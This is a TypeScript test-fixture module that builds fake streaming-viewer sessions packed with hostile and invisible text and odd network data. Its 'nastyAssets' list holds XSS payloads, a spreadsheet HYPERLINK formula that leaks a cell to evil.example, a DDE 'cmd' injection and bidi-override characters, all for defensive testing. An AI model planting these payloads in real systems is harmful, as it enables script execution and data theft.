import { createHash } from "node:crypto";
import type { Title } from "../catalogue/titles.ts";
import type { StoredSession } from "../sessions/session-spec.ts";
import { stories } from "../stories.ts";
import type { WireSession } from "../wire.ts";
import { presentedAs } from "./awkward-shapes.ts";
import { createCast, type StoryContext } from "./cast.ts";
import { line } from "./homes.ts";

const nastyAssets = [
  "<img src=x onerror=alert(1)>",
  '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
  "\u202eevil\u202c مسلسل الشتاء \u2067الحلقة 3\u2069",
  "Zero\u200bWidth\u200d \ufeffJoiner\u00ad\u2060!",
  `Endless ${"very long title ".repeat(640)}`,
  "+1+cmd|' /C calc'!A0 \u0000\u0007</script><script>alert(2)</script>",
];

/** Hostile and invisible text wherever text can stand. */
export function awkwardText(context: StoryContext): StoredSession[] {
  const cast = createCast(stories.awkwardText.viewerId, context, line("comcast", "192.0.2.203"));
  return nastyAssets.flatMap((asset, index) =>
    cast
      .tell({ hoursAgo: 2 + index * 3, device: "chromeWindows", title: nastyTitle(asset) })
      .map((stored) => ({ ...stored, present: (session: WireSession) => withNastyText(session, asset) })),
  );
}

function nastyTitle(asset: string): Title {
  return { asset, category: "VoD", channel: asset.slice(0, 40), lengthMs: 3_000_000, weight: 0 };
}

function withNastyText(session: WireSession, asset: string): unknown {
  return {
    ...session,
    content_info: {
      ...session.content_info,
      stream_url: "https://cdn.example/a/master.m3u8?token=eyJhbGciOi.secret&viewer=awkward-text#t=1",
    },
    device_info: { ...session.device_info, name: `=1+1 ${asset.slice(0, 60)}` },
    status_info: { ...session.status_info, errors: [`@SUM(A1) ${asset.slice(0, 60)}`] },
    tags: {
      ...session.tags,
      custom_tags: {
        ...session.tags.custom_tags,
        age: "65",
        email: "private.person@example.com",
        "<b>name</b>": "\tjavascript:alert(3)",
      },
    },
  };
}

/** Addresses, places and CDNs that are not what their names promise. */
export function awkwardNetwork(context: StoryContext): StoredSession[] {
  const cast = createCast(stories.awkwardNetwork.viewerId, context, line("comcast", "192.0.2.204"));
  const hashed = createHash("md5").update("salt 192.0.2.204").digest("hex");
  const [twoCdns] = cast.tell({ hoursAgo: 18, cdn: ["akamai", "fastly"] });
  const [onlyIpv6] = cast.tell({
    hoursAgo: 20,
    on: line("tmobile", null, "2001:DB8:0:0:8:800:200C:417A"),
  });
  return [
    ...presentedAs(cast, [
      (session) => ({ ...session, network_info: { ...session.network_info, ip: hashed } }),
      (session) => ({ ...session, network_info: { ...session.network_info, ip: null, isp: "" } }),
      (session) => ({ ...session, geo_info: {} }),
      ({ viewer_id: _viewer, ...session }) => ({
        ...session,
        network_info: { ...session.network_info, cdn: [], asn: { value: 33491 } },
      }),
    ]),
    ...[twoCdns, onlyIpv6].filter((stored) => stored !== undefined),
  ];
}
